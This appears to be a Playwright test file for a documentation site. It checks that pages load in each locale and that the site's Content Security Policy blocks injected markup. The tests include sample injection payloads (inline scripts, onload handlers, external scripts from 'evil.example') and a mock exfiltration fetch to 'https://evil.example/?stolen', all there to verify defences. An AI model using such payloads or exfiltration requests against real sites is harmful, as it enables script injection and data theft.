import { expect, type Page, test } from '@playwright/test';
import { localeCodes } from '../../src/core/locales.ts';
import { kinds, oneOf, scriptTurn, sweep } from './site.ts';
import { complaints, useFrame, useKind, useSearch } from './use.ts';

const pages = [
	...Object.entries(kinds).map(([kind, path], number) => ({ kind, path, where: oneOf(8, number, scriptTurn(kind)) })),
	{ kind: 'not found', path: '/nowhere/', where: sweep },
];

for (const [number, { kind, path, where }] of pages.entries()) {
	// The same scripts run in each language, so these take turns.
	const locale = localeCodes[number % localeCodes.length];
	test(`everything works on ${kind} under its policy, in ${locale}`, where, async ({ page, context }) => {
		// The longest pages take their time where two browsers share a core.
		test.setTimeout(180_000);
		await context.grantPermissions(['clipboard-read', 'clipboard-write']);
		const told = await complaints(page);
		await page.goto(`/${locale}${path}`);
		await useKind(page, kind);
		await useFrame(page);
		await useSearch(page);
		expect(told).toEqual([]);
	});
}

test('an address without language forwards under its policy', sweep, async ({ page }) => {
	const told = await complaints(page);
	for (const path of ['/', '/lightrft/cuda-oom/']) {
		await page.goto(path);
		await expect(page.locator('html[data-kind]')).toBeAttached();
	}
	expect(told).toEqual([]);
});

test.describe('what is put into a page does not run', () => {
	const path = '/en/lightrft/cuda-oom/';

	/** The page as if someone could write into its body. */
	async function openWith(page: Page, markup: string): Promise<string[]> {
		const blocked: string[] = [];
		await page.exposeFunction('tellViolation', (directive: string) => blocked.push(directive));
		await page.addInitScript(() => {
			document.addEventListener('securitypolicyviolation', (event) => {
				(window as unknown as { tellViolation(text: string): void }).tellViolation(event.effectiveDirective);
			});
		});
		await page.route(`**${path}`, async (route) => {
			const response = await route.fetch();
			const html = (await response.text()).replace('<main', `${markup}<main`);
			await route.fulfill({ response, body: html });
		});
		await page.goto(path);
		return blocked;
	}

	for (const [what, markup, directive] of [
		['an inline script', '<script>window.ran = 1</script>', 'script-src-elem'],
		['an inline module', '<script type="module">window.ran = 1</script>', 'script-src-elem'],
		['a handler', '<img src="/favicon.svg" onload="window.ran = 1">', 'script-src-attr'],
		['a script as data', '<script src="data:text/javascript,window.ran=1"></script>', 'script-src-elem'],
		['a script from elsewhere', '<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
		['a style attribute', '<p style="color:red">x</p>', 'style-src-attr'],
		['a style', '<style>main{display:none}</style>', 'style-src-elem'],
		['a picture from elsewhere', '<img src="https://evil.example/x.png">', 'img-src'],
		['a frame', '<iframe src="/en/"></iframe>', 'frame-src'],
		['another base', '<base href="https://evil.example/">', 'base-uri'],
	] as const) {
		test(what, sweep, async ({ page }) => {
			const asked: string[] = [];
			page.on('response', (response) => asked.push(response.url()));
			const blocked = await openWith(page, markup);
			await expect.poll(() => blocked).toEqual([directive]);
			expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
			expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
		});
	}

	test('text as HTML, as code, or as the address of a script, from a script of the page', sweep, async ({ page }) => {
		await page.goto(path);
		const thrown = await page.evaluate(() => {
			const attempt = (run: () => unknown) => {
				try {
					run();
					return 'ran';
				} catch (error) {
					return (error as Error).name;
				}
			};
			const script = document.createElement('script');
			return [
				attempt(() => {
					document.body.innerHTML = '<b>x</b>';
				}),
				attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
				attempt(() => {
					script.src = '/assets/x.js';
				}),
				attempt(() => new Worker('/assets/x.js')),
				attempt(() =>
					(
						window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
					).trustedTypes.createPolicy('mine', {}),
				),
			];
		});
		expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError']);
	});

	test('a request elsewhere, and a form', sweep, async ({ page }) => {
		await page.goto(path);
		const blocked = await page.evaluate(async () => {
			const directives: string[] = [];
			document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
			await fetch('https://evil.example/?stolen').catch(() => {});
			const form = document.createElement('form');
			form.action = '/en/search/';
			document.body.append(form);
			form.submit();
			await new Promise((resolve) => setTimeout(resolve, 100));
			return directives;
		});
		expect(blocked).toEqual(['connect-src', 'form-action']);
		expect(new URL(page.url()).pathname).toBe(path);
	});
});
